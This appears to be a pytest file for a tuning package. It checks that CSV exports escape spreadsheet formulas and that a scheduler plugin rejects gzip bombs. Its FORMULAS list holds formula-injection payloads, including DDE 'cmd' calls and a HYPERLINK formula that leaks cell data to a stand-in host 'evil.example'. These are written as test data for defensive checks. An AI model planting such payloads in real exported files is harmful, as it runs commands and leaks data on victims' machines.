"""Texts of users are no formulas in a spreadsheet, and a small upload is no large load."""

from __future__ import annotations

import csv
import gzip
import io
from pathlib import Path
from typing import Any

import pytest
from tornado.web import HTTPError

from dasktune.cli.output import write_csv
from dasktune.cluster.scheduler_page import page_plugin
from dasktune.logger.csv import CSVLoggerCallback

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
)
NUMBERS = (-0.5, 3, "-1e-05", "+4", "-inf")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_text_of_a_trial_is_no_formula_in_progress_csv(formula: str):
    made = CSVLoggerCallback().make_format()
    rows: list[dict[str, Any]] = [{"loss": -0.5, "note": formula, formula: 1}]
    head, first = cells(made.encode_all(rows).decode())
    shown = "'" + formula.replace("\r", "\n")
    assert head == ["loss", "note", shown]
    assert first == ["-0.5", shown, "1"]
    more = made.encode_more(rows)
    assert more is not None
    assert cells(more.decode()) == [first]


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_text_of_an_experiment_is_no_formula_in_a_table_of_the_command_line(
    formula: str, capsys: pytest.CaptureFixture[str]
):
    write_csv(["name", formula], [[formula, *NUMBERS], [[formula], None]])
    head, first, second = cells(capsys.readouterr().out)
    shown = "'" + formula.replace("\r", "\n")
    assert head == ["name", shown]
    assert first == [shown, "-0.5", "3", "-1e-05", "+4", "-inf"]
    assert second[0].startswith("[")


@pytest.mark.parametrize("text", ["adam\r=1+1", "adam\r\n=1+1", "adam\n=1+1"])
def test_a_line_break_in_a_text_begins_no_row(text: str):
    rows: list[dict[str, Any]] = [{"note": text}]
    assert cells(CSVLoggerCallback().make_format().encode_all(rows).decode()) == [["note"], ["adam\n=1+1"]]


def test_a_small_upload_is_not_decompressed_without_a_limit(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(page_plugin, "_LARGEST_DECOMPRESSED", 1000)
    assert page_plugin._decompressed(gzip.compress(b"x" * 999)) == b"x" * 999
    for bomb in (gzip.compress(bytes(1_000_000)), b"no gzip", gzip.compress(b"x" * 999)[:-9]):
        with pytest.raises(HTTPError, match="406"):
            page_plugin._decompressed(bomb)


def test_the_scheduler_decompresses_at_most_a_few_times_what_it_stores():
    assert page_plugin._LARGEST_DECOMPRESSED <= 25 * page_plugin._LARGEST


def test_no_code_of_the_package_decompresses_what_it_is_sent_without_a_limit():
    places = [
        f"{path.name}: {line.strip()}"
        for path in Path(page_plugin.__file__).parents[2].rglob("*.py")
        for line in path.read_text(encoding="utf-8").splitlines()
        if any(call in line for call in ("gzip.decompress(", "zlib.decompress(", "bz2.decompress("))
    ]
    assert places == []
